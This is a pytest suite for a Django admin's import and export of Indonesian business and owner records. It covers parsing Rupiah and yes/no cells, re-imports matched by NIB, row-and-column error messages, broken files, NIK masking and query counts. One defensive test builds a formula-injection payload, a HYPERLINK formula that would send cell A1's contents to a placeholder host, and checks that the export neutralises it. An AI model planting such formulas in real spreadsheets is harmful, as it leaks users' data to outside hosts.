"""Business import/export in the admin: through the pages as staff use them, and through the
resource for the detailed cases (cell formats, owners, all-or-nothing, broken files)."""

import csv
import io
import zipfile
from pathlib import Path

import pytest
import tablib
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from businesses.models import Business, BusinessStatus, DuplicateFlag, Kelurahan, Marketplace, Owner
from businesses.resources import (
    COLUMNS,
    EXAMPLE_NIB,
    IMPORT_COLUMNS,
    BusinessResource,
    CSVFormat,
    ImportFileError,
    XLSXFormat,
    parse_boolean,
    parse_integer,
    result_messages,
)
from spreadsheets.models import ImportStatus

from .factories import BusinessFactory, OwnerFactory, UserFactory
from .helpers import (
    EXPORT_URL,
    IMPORT_URL,
    KELURAHAN_CODES,
    TEMPLATE_URL,
    confirm,
    csv_bytes,
    dataset,
    export,
    form_errors,
    nik,
    ready,
    row,
    run_import,
    upload,
    xlsx,
)

pytestmark = pytest.mark.django_db

# --- Reading cells ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "expected"),
    [("1.250.000", 1_250_000), ("Rp 1.250.000", 1_250_000), ("Rp1.250.000,00", 1_250_000), (1250000, 1_250_000),
     (1250000.0, 1_250_000), ("15.000,-", 15_000), ("1,250,000", 1_250_000), ("", None), (None, None)],
)  # fmt: skip
def test_rupiah_cells_are_read_as_staff_write_them(cell, expected):
    assert parse_integer(cell) == expected


def test_a_number_cell_that_is_not_a_number_is_refused_in_indonesian():
    with pytest.raises(ValueError, match="bukan angka"):
        parse_integer("dua juta")


@pytest.mark.parametrize(
    ("cell", "expected"),
    [("ya", True), ("Y", True), ("1", True), (1, True), (1.0, True), ("TRUE", True), ("x", True), (True, True),
     ("tidak", False), ("n", False), ("0", False), (0, False), ("false", False), ("", False), (None, False),
     ("mungkin", None)],
)  # fmt: skip
def test_yes_no_cells_accept_the_usual_spellings(cell, expected):
    assert parse_boolean(cell) is expected


# --- Importing through the resource ------------------------------------------------------------


def test_a_good_file_creates_businesses_as_pending_and_their_owners(reference):
    rows = [row(1), row(2), row(3, nik_pemilik=nik(1), nama_pemilik="Pemilik 1", whatsapp_pemilik="")]

    result = run_import(rows)

    assert not result.has_errors() and not result.has_validation_errors(), result_messages(result)
    assert Business.objects.count() == 3
    assert Owner.objects.count() == 2  # the third business belongs to the first owner
    business = Business.objects.select_related("owner", "kbli", "kelurahan").get(nib=rows[0]["nib"])
    assert business.status == BusinessStatus.PENDING
    assert (business.kbli.code, business.kelurahan.code) == ("10796", rows[0]["kode_kelurahan"])
    assert (business.investment, business.turnover_2019) == (35_000_000, 12_500_000)
    assert (business.sells_in_shop, business.sells_on_whatsapp, business.reaches_province) == (True, True, True)
    assert (business.reaches_other_provinces, business.sells_on_social_media) == (False, False)
    assert sorted(business.marketplaces.values_list("name", flat=True)) == ["Shopee", "Tokopedia"]
    assert business.owner.phone == "+6281300010001"  # normalised from 0813-0001-0001


def test_cells_from_excel_are_read_generously(reference):
    lowercase_name = Kelurahan.objects.get(code="13.76.01.1003").name.upper()
    data = row(
        1, nib=8120000000001.0, kbli=10796, kode_kelurahan=lowercase_name, tahun_berdiri=2011.0,
        investasi=35000000.0, tk_laki_laki="", media_sosial="IG @galamai_uni", website="galamaiuni.id",
        email_pemilik=" Uni@Contoh.ID ",
    )  # fmt: skip

    result = run_import([data])

    assert not result.has_validation_errors(), result_messages(result)
    business = Business.objects.select_related("owner").get()
    assert business.nib == "8120000000001"
    assert business.kelurahan.code == "13.76.01.1003"
    assert business.workers_male == 0
    assert (business.sells_on_social_media, business.social_media) == (True, "IG @galamai_uni")
    assert business.website == "https://galamaiuni.id"
    assert business.owner.email == "uni@contoh.id"


def test_reimport_updates_by_nib_without_duplicating_and_keeps_the_status(reference):
    run_import([row(1), row(2)])
    Business.objects.filter(nib=row(1)["nib"]).update(status=BusinessStatus.VERIFIED, verified_at=timezone.now())

    result = run_import([row(1, nama_usaha="Galamai Uni Ani", omzet_2019="Rp 20.000.000", nama_marketplace="Lazada"), row(2)])

    assert not result.has_validation_errors(), result_messages(result)
    assert (result.totals["new"], result.totals["update"]) == (0, 2)
    assert Business.objects.count() == 2 and Owner.objects.count() == 2
    business = Business.objects.get(nib=row(1)["nib"])
    assert (business.name, business.turnover_2019, business.status) == ("Galamai Uni Ani", 20_000_000, BusinessStatus.VERIFIED)
    assert list(business.marketplaces.values_list("name", flat=True)) == ["Lazada"]


def test_a_known_owner_is_found_by_nik_and_updated_not_duplicated(reference):
    owner = OwnerFactory(user=None, nik=nik(7), name="Nama Lama", phone="+6281300000000")

    result = run_import([row(1, nik_pemilik=nik(7), nama_pemilik="Nama Baru", whatsapp_pemilik="+62 813 9999 0000")])

    assert not result.has_validation_errors(), result_messages(result)
    owner.refresh_from_db()
    assert (owner.name, owner.phone) == ("Nama Baru", "+6281399990000")
    assert Owner.objects.count() == 1
    assert Business.objects.get().owner == owner


def test_blank_owner_details_keep_what_a_known_owner_has(reference):
    owner = OwnerFactory(user=None, nik=nik(7), name="Uni Ani", phone="+6281300000007", email="ani@contoh.id")

    result = run_import([row(1, nik_pemilik=nik(7), nama_pemilik="", whatsapp_pemilik="", email_pemilik="")])

    assert not result.has_validation_errors(), result_messages(result)
    owner.refresh_from_db()
    assert (owner.name, owner.phone, owner.email) == ("Uni Ani", "+6281300000007", "ani@contoh.id")


def test_a_known_owner_changed_on_one_row_keeps_the_change_when_a_later_row_repeats_it(reference):
    owner = OwnerFactory(user=None, nik=nik(7), name="Nama Lama", phone="+6281300000000")
    changed = {"nik_pemilik": nik(7), "nama_pemilik": "Nama Baru", "whatsapp_pemilik": "+62 813 9999 0000"}

    result = run_import([row(1, **changed), row(2, **changed)])

    assert not result.has_validation_errors(), result_messages(result)
    owner.refresh_from_db()
    assert (owner.name, owner.phone) == ("Nama Baru", "+6281399990000")
    assert owner.history.count() == 2  # created, then changed once by the import


def test_an_import_writes_30_rows_and_300_in_the_same_number_of_queries(reference):
    """New owners and businesses, then the same rows again with owners and marketplaces changed:
    the writes are in bulk (businesses_import_save), so the count does not grow with the rows."""

    def queries(first: int, count: int) -> tuple[int, int]:
        numbers = range(first, first + count)
        with CaptureQueriesContext(connection) as new:
            assert not run_import([row(n) for n in numbers]).has_validation_errors()
        changed = [row(n, nama_pemilik=f"Pemilik Baru {n}", nama_marketplace="Shopee") for n in numbers]
        with CaptureQueriesContext(connection) as again:
            assert not run_import(changed).has_validation_errors()
        assert Owner.objects.filter(name__in=[f"Pemilik Baru {n}" for n in numbers]).count() == count
        return len(new), len(again)

    assert queries(1, 30) == queries(1001, 300)


def test_the_same_nib_twice_in_a_file_is_refused_on_the_second_row(reference):
    result = run_import([row(1), row(2), row(3, nib=row(1)["nib"])])

    assert [r.number for r in result.invalid_rows] == [3]
    assert "nib" in result.invalid_rows[0].error_dict
    assert "baris 2" in " ".join(result.invalid_rows[0].error_dict["nib"])  # the first row, as Excel numbers it
    assert Business.objects.count() == 0


def test_errors_are_in_indonesian_and_name_the_row_and_the_column(reference):
    bad = row(
        2, nib="12345", kbli="99999", kode_kelurahan="Kelurahan Antah", tahun_berdiri="dulu", investasi="banyak",
        toko="mungkin", nama_marketplace="Tokopedia, Amazon", nik_pemilik="1376", whatsapp_pemilik="12345",
        email_pemilik="bukan-email", nama_usaha="",
    )  # fmt: skip

    result = run_import([row(1), bad])

    errors = result.invalid_rows[0].error_dict
    assert result.invalid_rows[0].number == 2
    assert set(errors) >= {
        "nib", "nama_usaha", "kbli", "kode_kelurahan", "tahun_berdiri", "investasi", "toko", "nama_marketplace",
        "nik_pemilik",
    }  # fmt: skip
    assert "NIB harus 13 angka" in errors["nib"][0]
    assert "Amazon" in errors["nama_marketplace"][0]
    lines = result_messages(result)
    assert "Baris 3, kolom kbli: Kode KBLI “99999” tidak ada" in " ".join(lines)
    assert Business.objects.count() == 0


def test_owner_contact_errors_name_the_owner_columns(reference):
    result = run_import([row(1, whatsapp_pemilik="12345", email_pemilik="bukan-email")])

    errors = result.invalid_rows[0].error_dict
    assert "Nomor WhatsApp tidak valid" in errors["whatsapp_pemilik"][0]
    assert "email_pemilik" in errors
    assert Owner.objects.count() == 0


def test_a_nik_that_excel_stored_as_a_number_is_refused_with_the_reason(reference):
    result = run_import([row(1, nik_pemilik=1376011203850010)])

    assert "Format kolom nik_pemilik sebagai Teks" in result.invalid_rows[0].error_dict["nik_pemilik"][0]


def test_one_bad_row_among_2000_saves_nothing_and_names_its_row_and_column(reference):
    rows = [row(n) for n in range(1, 2001)]
    rows[1499]["nik_pemilik"] = "1376013213850001"  # month 13

    result = run_import(rows)

    assert [r.number for r in result.invalid_rows] == [1500]
    assert list(result.invalid_rows[0].error_dict) == ["nik_pemilik"]
    assert result_messages(result) == [
        "Baris 1501, kolom nik_pemilik: NIK tidak wajar: angka ke-9 dan ke-10 (bulan lahir) harus 01 sampai 12."
    ]
    assert Business.objects.count() == 0
    assert Owner.objects.count() == 0


def test_a_dry_run_saves_nothing(reference):
    result = run_import([row(1), row(2)], dry_run=True)

    assert result.totals["new"] == 2
    assert Business.objects.count() == 0 and Owner.objects.count() == 0


def test_new_businesses_are_flagged_as_duplicates_after_a_real_import_only(reference):
    existing = BusinessFactory(name="Galamai Uni Ani", kelurahan=Kelurahan.objects.get(code="13.76.01.1002"))
    similar = row(1, nama_usaha="Galamai Uni Ani.", kode_kelurahan="13.76.01.1002")

    run_import([similar], dry_run=True)
    assert not DuplicateFlag.objects.exists()

    run_import([similar])
    flag = DuplicateFlag.objects.get()
    assert (flag.business.nib, flag.other) == (similar["nib"], existing)


def duplicate_flags() -> set[tuple[str, str, str]]:
    return {(f.business.nib, f.other.nib, f.reason) for f in DuplicateFlag.objects.select_related("business", "other")}


def test_import_flags_the_same_duplicates_as_the_service_called_after_each_row(reference):
    names = ("Rendang Uni Ani", "Rendang Uni Ana", "UD Rendang Uni Ani", "Galamai Rosna", "Galamai Rosnah", "Batiah Elvi")
    for n, name in enumerate(names[:3]):
        BusinessFactory(name=name, kelurahan=Kelurahan.objects.get(code=KELURAHAN_CODES[n % 2]),
                        owner=OwnerFactory(user=None, phone=f"+628130000{n:04d}"))  # fmt: skip
    rows = [
        row(n, nama_usaha=names[n % len(names)] + ("" if n < 6 else f" {n % 4}"), kode_kelurahan=KELURAHAN_CODES[n % 2],
            whatsapp_pemilik=f"0813-0000-{n % 5:04d}" if n % 3 == 0 else f"0813-1111-{n:04d}")
        for n in range(1, 31)
    ]  # fmt: skip

    run_import(rows)
    in_one_go = duplicate_flags()

    # The same rows imported one file per row flag each business right after it is saved.
    Business.objects.filter(nib__in=[r["nib"] for r in rows]).delete()
    for r in rows:
        run_import([r])

    assert in_one_go == duplicate_flags()
    reasons = {reason for _, _, reason in in_one_go}
    assert reasons == {"name", "phone"}
    assert len(in_one_go) > 100


def test_the_status_column_is_ignored_and_new_businesses_stay_pending(reference):
    data = dataset([{**row(1), "status": "Terverifikasi"}], headers=COLUMNS)

    run_import(data)

    assert Business.objects.get().status == BusinessStatus.PENDING


def test_the_template_example_row_and_blank_rows_are_skipped(reference):
    result = run_import([row(1, nib=EXAMPLE_NIB, nik_pemilik="contoh"), row(2), {}])

    assert [r.import_type for r in result.rows] == ["skip", "new", "skip"]
    assert Business.objects.count() == 1


def test_headers_are_matched_whatever_their_case_and_spacing(reference):
    headers = [h.replace("_", " ").title() for h in IMPORT_COLUMNS]
    data = tablib.Dataset([row(1)[h] for h in IMPORT_COLUMNS], headers=headers)

    result = run_import(data)

    assert not result.has_errors() and Business.objects.count() == 1


def test_missing_columns_stop_the_import_before_any_row(reference):
    headers = [h for h in IMPORT_COLUMNS if h not in ("kbli", "nik_pemilik")] + ["kode kbli salah"]
    result = run_import(dataset([row(1)], headers=headers))

    assert result.has_errors() and not result.rows
    assert "kbli, nik_pemilik" in result_messages(result)[0]
    assert "kode_kbli_salah" in result_messages(result)[0]


# --- Reading files -------------------------------------------------------------------------


def test_csv_in_windows_1252_with_semicolons_is_read(reference):
    data = csv_bytes([row(1, nama_usaha="Café Galamai – Uni", alamat="Jl. Sudirman 5; Payakumbuh")],
                     delimiter=";", encoding="cp1252")  # fmt: skip

    parsed = CSVFormat().create_dataset(data)

    assert parsed.headers == list(IMPORT_COLUMNS)
    assert parsed[0][1] == "Café Galamai – Uni"
    assert parsed[0][5] == "Jl. Sudirman 5; Payakumbuh"


def test_csv_with_a_utf8_bom_is_read():
    parsed = CSVFormat().create_dataset(b"\xef\xbb\xbf" + csv_bytes([row(1, nama_usaha="Rendang Ṡ")]))

    assert parsed.headers[0] == "nib"
    assert parsed[0][1] == "Rendang Ṡ"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "bukan lembar kerja"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64, "Format .xls"),
    ],
)
def test_files_that_are_not_spreadsheets_are_refused_by_their_content(content, message):
    with pytest.raises(ImportFileError, match=message):
        XLSXFormat().create_dataset(content)


def random_zip() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("foto.txt", "bukan lembar kerja")
    return stream.getvalue()


# --- Through the admin, as staff -------------------------------------------------------------


def test_staff_import_an_xlsx_file_through_preview_and_confirmation(client, staff):
    client.force_login(staff)

    preview = upload(client, xlsx([row(1), row(2)]))

    assert preview.status_code == 200
    assert ready(preview), form_errors(preview)
    assert Business.objects.count() == 0  # the preview saved nothing
    done = confirm(client, preview)
    assert done.context["job"].status == ImportStatus.DONE
    assert Business.objects.count() == 2
    assert "Impor selesai: 2 usaha baru" in done.content.decode()


def test_the_preview_lists_bad_rows_with_row_and_column_and_offers_no_confirmation(client, staff):
    client.force_login(staff)

    preview = upload(client, xlsx([row(1), row(2, nik_pemilik="12")]))

    assert not ready(preview)
    page = preview.content.decode()
    assert "kolom nik_pemilik" in page
    assert "NIK harus 16 angka" in page
    assert "Baris 3, kolom nik_pemilik" in page  # row 3 in Excel: the header is row 1


def test_an_upload_that_cannot_be_confirmed_is_not_kept(client, staff, settings):
    client.force_login(staff)

    upload(client, xlsx([row(1, nik_pemilik="12")]))

    kept = Path(settings.MEDIA_ROOT) / "django-import-export"
    assert not kept.exists() or not any(kept.iterdir())


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("usaha.csv", lambda: csv_bytes([row(1, nama_usaha="Café Galamai")], delimiter=";", encoding="cp1252")),
        ("usaha.csv", lambda: b"\xef\xbb\xbf" + csv_bytes([row(1)])),
        ("usaha.csv", lambda: csv_bytes([row(1)], encoding="latin-1")),
        ("usaha.xlsx", lambda: csv_bytes([row(1)])),  # a CSV named .xlsx is still read
    ],
    ids=["cp1252-semicolon", "utf8-bom", "latin-1", "misnamed"],
)
def test_csv_files_from_indonesian_excel_import_through_the_admin(client, staff, name, content):
    client.force_login(staff)

    preview = upload(client, content(), name)

    assert ready(preview), form_errors(preview)
    confirm(client, preview)
    assert Business.objects.count() == 1


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (lambda: b"", "kosong"),
        (lambda: b"\n\n", "kosong"),
        (lambda: csv_bytes([]), "tanpa baris data"),
        (lambda: xlsx([], headers=IMPORT_COLUMNS), "tanpa baris data"),
        (lambda: xlsx([row(1)], headers=("nama", "alamat", "telepon")), "Kolom berikut tidak ada"),
        (lambda: csv_bytes([row(1)], headers=IMPORT_COLUMNS[:-3]), "whatsapp_pemilik, email_pemilik"),
        (lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, "bukan lembar kerja"),
        (random_zip, "rusak atau bukan buku kerja"),
        (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "Format .xls"),
        (lambda: csv_bytes([row(1)]) + b"1,2,3" + b",x" * 30 + b"\n", "Baris 3 berisi 33 isian"),
    ],
    ids=["empty", "blank-lines", "csv-header-only", "xlsx-header-only", "wrong-columns", "missing-columns",
         "png-renamed", "random-zip", "old-xls", "ragged"],
)  # fmt: skip
def test_broken_files_get_a_clear_message_and_save_nothing(client, staff, content, message):
    client.force_login(staff)

    response = upload(client, content())

    assert response.status_code == 200
    assert not ready(response)
    errors = form_errors(response) or response.content.decode()
    assert message in errors
    assert Business.objects.count() == 0


def test_a_file_bigger_than_the_limit_is_refused(client, staff, settings):
    settings.IMPORT_MAX_BYTES = 1000
    client.force_login(staff)

    response = upload(client, xlsx([row(1)]))

    assert "Berkas terlalu besar" in form_errors(response)


def test_a_confirmed_import_that_became_invalid_saves_nothing_and_says_why(client, staff):
    client.force_login(staff)
    preview = upload(client, xlsx([row(1)]))
    # Between preview and confirmation the reference data changes under the file.
    Kelurahan.objects.filter(code=row(1)["kode_kelurahan"]).update(code="13.76.01.9999")

    response = confirm(client, preview)

    assert response.status_code == 200
    assert Business.objects.count() == 0
    assert "kode_kelurahan" in response.content.decode()


def test_confirming_twice_imports_once(client, staff):
    client.force_login(staff)
    preview = upload(client, xlsx([row(1)]))
    confirm(client, preview)

    again = confirm(client, preview)

    assert again.status_code == 200
    assert "Unggah ulang" in again.content.decode()
    assert Business.objects.count() == 1


def test_only_users_allowed_to_add_businesses_may_import(client, reference):
    client.force_login(UserFactory(is_staff=True))  # a staff account without registry permissions

    assert client.get(reverse(IMPORT_URL)).status_code == 403
    assert client.get(reverse(TEMPLATE_URL)).status_code == 403
    assert client.get(reverse(EXPORT_URL)).status_code == 403


def test_the_changelist_offers_import_and_export_to_staff(client, staff):
    client.force_login(staff)

    page = client.get(reverse("admin:businesses_business_changelist")).content.decode()

    assert reverse(IMPORT_URL) in page and reverse(EXPORT_URL) in page


# --- The template --------------------------------------------------------------------------


def test_the_template_explains_every_column_and_imports_back_after_filling_one_row(client, staff):
    client.force_login(staff)
    page = client.get(reverse(IMPORT_URL)).content.decode()
    assert reverse(TEMPLATE_URL) in page

    response = client.get(reverse(TEMPLATE_URL))

    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.xlsx"')
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Data Usaha", "Petunjuk"]
    data = book["Data Usaha"]
    assert [c.value for c in data[1]] == list(IMPORT_COLUMNS)
    assert data["A2"].value == EXAMPLE_NIB
    help_text = [c.value for r in book["Petunjuk"].iter_rows() for c in r if c.value]
    assert set(COLUMNS) <= set(help_text)
    assert {"10750", "13.76.01.1002", "13.76.05.1001"} <= set(help_text)

    filled = row(5)
    for index, column in enumerate(IMPORT_COLUMNS, start=1):
        data.cell(3, index, filled[column])
    book.active = 1  # saved with the instructions sheet open, as people do
    stream = io.BytesIO()
    book.save(stream)
    preview = upload(client, stream.getvalue(), "templat-terisi.xlsx")
    assert ready(preview), form_errors(preview)
    confirm(client, preview)
    assert list(Business.objects.values_list("nib", flat=True)) == [filled["nib"]]


# --- Export -------------------------------------------------------------------------------


def exported_rows(content: bytes, file_format: int) -> list[dict]:
    if file_format == 0:
        sheet = load_workbook(io.BytesIO(content)).active
        values = [[c.value for c in r] for r in sheet.iter_rows()]
    else:
        values = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    return [dict(zip(values[0], r, strict=True)) for r in values[1:]]


@pytest.mark.parametrize("file_format", [0, 1], ids=["xlsx", "csv"])
def test_export_masks_nik_for_staff_without_the_nik_permission(client, staff, nik_viewer, file_format):
    business = BusinessFactory()
    client.force_login(staff)

    masked = exported_rows(export(client, file_format), file_format)[0]
    client.force_login(nik_viewer)
    full = exported_rows(export(client, file_format), file_format)[0]

    assert masked["nik_pemilik"] == business.owner.nik_masked != business.owner.nik
    assert "*" in masked["nik_pemilik"]
    assert full["nik_pemilik"] == business.owner.nik
    assert masked["status"] == "Menunggu verifikasi"


def test_an_exported_file_with_masked_niks_imports_back_unchanged(client, staff):
    business = BusinessFactory()
    business.marketplaces.set(Marketplace.objects.filter(name__in=["Shopee", "Blibli"]))
    client.force_login(staff)
    content = export(client, 1)

    preview = upload(client, content, "ekspor.csv")

    assert ready(preview), form_errors(preview)
    assert preview.context["totals"]["update"] == 1
    confirm(client, preview)
    assert Business.objects.count() == 1 and Owner.objects.count() == 1
    business.refresh_from_db()
    assert sorted(business.marketplaces.values_list("name", flat=True)) == ["Blibli", "Shopee"]


def test_exported_cells_that_look_like_formulas_do_not_run(client, staff):
    formula = '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")'
    BusinessFactory(name=formula, products="+1+1", address="@SUM(A1)")
    client.force_login(staff)

    content = export(client, 0)
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    cell = load_workbook(io.BytesIO(content)).active["B2"]
    assert "<f>" not in sheet_xml
    # The one rule of safetext.cells, as in the CSV: a text cell, behind an apostrophe that the
    # import drops again.
    assert (cell.value, cell.data_type) == ("'" + formula, "s")

    exported = exported_rows(export(client, 1), 1)[0]
    assert exported["nama_usaha"] == "'" + formula
    assert (exported["produk"], exported["alamat"]) == ("'+1+1", "'@SUM(A1)")
    assert exported["whatsapp_pemilik"].startswith("+62")  # a phone number cannot run, stays as is


def test_export_queries_do_not_grow_with_the_number_of_businesses(client, staff):
    client.force_login(staff)

    def queries_for_export(count):
        Business.objects.all().delete()
        for _ in range(count):
            business = BusinessFactory(owner=OwnerFactory(user=None))
            business.marketplaces.set(Marketplace.objects.all()[:2])
        resource = BusinessResource(user=staff)
        with CaptureQueriesContext(connection) as in_resource:
            data = resource.export(Business.objects.all())
        assert len(data) == count
        with CaptureQueriesContext(connection) as in_admin:
            assert len(exported_rows(export(client, 1), 1)) == count
        return len(in_resource), len(in_admin)

    assert queries_for_export(10) == queries_for_export(100)


def test_an_imports_history_rows_are_the_ones_simple_history_writes(reference):
    """businesses_import_save copies the history rows in the database (``_history_copied``);
    they hold what simple-history's bulk_history_create writes for the same rows, the owners'
    NIK included, and the marketplaces' snapshot hangs on the business's record."""
    from django.apps import apps

    from businesses.services import _history_copied, _marketplace_history

    staff = UserFactory()
    businesses = [BusinessFactory() for _ in range(3)]
    owners = [business.owner for business in businesses]
    businesses[0].marketplaces.add(Marketplace.objects.first())
    links = list(Business.marketplaces.through.objects.filter(business=businesses[0]))
    when = timezone.now()

    def written() -> list:
        rows = []
        for model in (Business.history.model, Owner.history.model):
            fields = [f.attname for f in model._meta.concrete_fields if f.attname != "history_id"]
            rows += sorted(model.objects.filter(history_date=when).values_list(*fields), key=repr)
        snapshot = apps.get_model("businesses", "HistoricalBusiness_marketplaces")
        rows += list(snapshot.objects.filter(history__history_date=when).values_list("history__id", "marketplace_id"))
        return rows

    _marketplace_history(
        _history_copied(Business, [b.pk for b in businesses], history_type="+", actor=staff, when=when, read=True), links
    )
    _history_copied(Owner, [o.pk for o in owners], history_type="~", actor=staff, when=when)
    copied = written()
    Business.history.filter(history_date=when).delete()
    Owner.history.filter(history_date=when).delete()
    records = Business.history.bulk_history_create(businesses, default_user=staff, default_date=when)
    _marketplace_history([(record.history_id, record.id) for record in records], links)
    Owner.history.bulk_history_create(owners, update=True, default_user=staff, default_date=when)
    assert copied == written()
    assert len(copied) == 3 + 3 + 1  # three businesses, three owners, one marketplace
    assert any(owners[0].nik in row for row in copied[3:6])  # decrypted as written
